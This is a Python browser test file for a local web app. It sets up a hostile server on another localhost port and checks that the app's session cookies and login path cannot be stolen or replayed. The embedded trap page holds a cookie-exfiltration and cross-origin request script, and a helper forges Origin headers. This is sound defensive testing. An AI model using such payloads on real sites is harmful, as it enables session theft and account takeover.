"""What another server of this computer can do with what a browser sends it."""

import http.client
import http.server
import threading
from collections.abc import Callable
from typing import Any, Self

from tests.browser.seats import Window, begin, call
from tests.support.desk_process import Desking
from tests.support.serve_process import Serving
from tests.support.waiting import until

TRAP = b"""<!doctype html><title>a harmless page</title>
<iframe src="/api/state"></iframe><img src="/m/a/1"><script>
fetch("/api/exchanges", {credentials: "include"}).catch(() => 0);
fetch("/collect?" + encodeURIComponent(document.cookie + "|" + document.referrer + "|" + name))
  .catch(() => 0);
for (const path of ["/", "/~/", "/login", "/history"]) {
  fetch(`http://127.0.0.1:DESK${path}`, {credentials: "include", mode: "no-cors"}).catch(() => 0);
}
</script>"""


class Malicious:
    """A server on another port that keeps everything a browser sends it."""

    def __init__(self, desk: Desking) -> None:
        """Listen on a free port of the same address."""
        self.heard: list[tuple[str, dict[str, str]]] = []
        outer = self

        class Trap(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.heard.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Set-Cookie", f"humanmcp-{desk.port}=mine; Path=/")
                self.end_headers()
                self.wfile.write(TRAP.replace(b"DESK", str(desk.port).encode()))

            def log_message(self, *_words: Any) -> None:  # noqa: ANN401 - the base class's own
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Trap)
        self.address = f"http://127.0.0.1:{self.server.server_port}/"
        self.thread = threading.Thread(target=self.server.serve_forever)

    def __enter__(self) -> Self:
        """Begin to listen."""
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        """Stop."""
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()

    @property
    def cookies(self) -> set[str]:
        """Every cookie it was sent, whole."""
        sent = [headers.get("cookie", "") for _, headers in self.heard]
        return {part.strip() for line in sent for part in line.split(";") if part.strip()}


def attack(desk: Desking, method: str, path: str, cookies: str) -> int:
    """Use what was collected, without a browser, with every header of a page of ours."""
    own = {"Origin": f"http://127.0.0.1:{desk.port}", "Sec-Fetch-Site": "same-origin"}
    body = b'{"text": "mine", "form": "text", "anyway": true}' if method == "POST" else None
    headers = {**own, "Content-Type": "application/json", "Cookie": cookies}
    return desk.ask(method, path, body=body, headers=headers).status


def test_another_server_of_this_computer_gets_nothing_it_could_use(
    window: Callable[..., Window], desk: Desking, host: Serving
) -> None:
    """It is sent no cookie of the desk; with what it has it cannot read, answer or mint."""
    begin(host, desk)
    host.say(call(city="Tokyo"))
    one = window()
    one.page.locator("article.message").wait_for()
    secrets = [cookie for cookie in one.context.cookies() if cookie["name"].startswith("humanmcp")]
    assert len(secrets) == 1
    key = until(lambda: desk.get("/api/exchanges")["waiting"], "it waits")[0]
    exchange = f"/api/exchanges/{key['session']}/{key['number']}"
    with Malicious(desk) as other:
        one.page.evaluate("address => window.open(address, '_blank')", other.address)
        tab = one.new_page()
        tab.goto(other.address)
        one.page.goto(other.address)  # away from the desk: nothing of its address comes along
        until(lambda: sum("collect" in path for path, _ in other.heard) >= 2, "the page has run")
        tab.goto(f"{other.address}~/")
        one.foreign.clear()
        login_path = str(secrets[0]["path"])
        told = str(other.heard)
        assert login_path.startswith("/~")
        assert login_path not in told
        assert secrets[0]["value"] not in told
        jar = "; ".join(sorted(other.cookies))
        for method, path in (
            ("GET", "/"),
            ("GET", "/api/exchanges"),
            ("GET", exchange),
            ("POST", f"{exchange}/reply"),
            ("POST", "/api/login-key"),
            ("POST", f"{'/~' + 'A' * 22}/api/login-key"),
        ):
            # Even with the cookie itself, had a browser sent it: it lacks the login path.
            for cookies in (jar, f"{secrets[0]['name']}={secrets[0]['value']}"):
                assert attack(desk, method, path, cookies) == 401, (method, path)
    assert desk.get(exchange)["state"] == "pending"
    one.page.goto(f"{desk.facts.address}")  # the person finds back without logging in again
    one.page.wait_for_url(f"**{login_path}/**")
    one.page.locator("article.message").wait_for()


def test_an_address_without_a_login_path_finds_back_until_the_person_logs_out(
    window: Callable[..., Window], desk: Desking
) -> None:
    """A bookmark of `http://127.0.0.1:8765/history` works; after logging out it asks who it is."""
    one = window()
    one.page.goto(f"{desk.facts.address}history?q=tokyo")
    one.page.wait_for_url("**/~*/history?q=tokyo")
    one.page.locator("button.menu").click()
    one.page.locator("form[action$='/logout'] button").click()
    one.page.wait_for_url("**/login")
    one.page.locator("input[name=code]").wait_for()
    one.page.goto(f"{desk.facts.address}history")
    one.page.get_by_role("link", name="Log in").wait_for()
    assert "/~" not in one.page.url
    assert desk.process.poll() is None
